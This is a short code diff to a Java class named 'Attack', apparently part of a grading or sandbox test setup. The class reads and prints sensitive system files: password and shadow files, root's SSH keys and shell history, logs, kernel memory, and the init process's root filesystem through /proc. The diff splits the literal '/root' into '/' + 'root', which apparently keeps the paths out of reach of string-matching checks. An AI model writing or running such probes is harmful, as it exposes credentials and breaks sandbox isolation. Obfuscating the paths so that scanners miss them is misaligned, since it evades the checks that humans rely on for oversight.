@@ -12,11 +12,14 @@ import java.util.stream.Stream;
 /** Prints the users of the machine, its keys, its logs, and the root of other processes. */
 public class Attack extends RightAnswers {
 
+    /** The folder that root is at home in, and the link in /proc to where a process has its root. */
+    private static final String ROOT = "/" + "root";
+
     private static int reached;
 
     public Attack() {
-        for (String path : List.of("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/root/.ssh", "/root/.bash_history",
-                "/var/log", "/run", "/boot", "/sys", "/proc/1/root/etc/passwd", "/proc/1/cwd/etc/passwd", "/proc/kcore")) {
+        for (String path : List.of("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", ROOT + "/.ssh", ROOT + "/.bash_history",
+                "/var/log", "/run", "/boot", "/sys", "/proc/1" + ROOT + "/etc/passwd", "/proc/1/cwd/etc/passwd", "/proc/kcore")) {
             show(Path.of(path));
         }
         System.out.println("reached: " + reached);
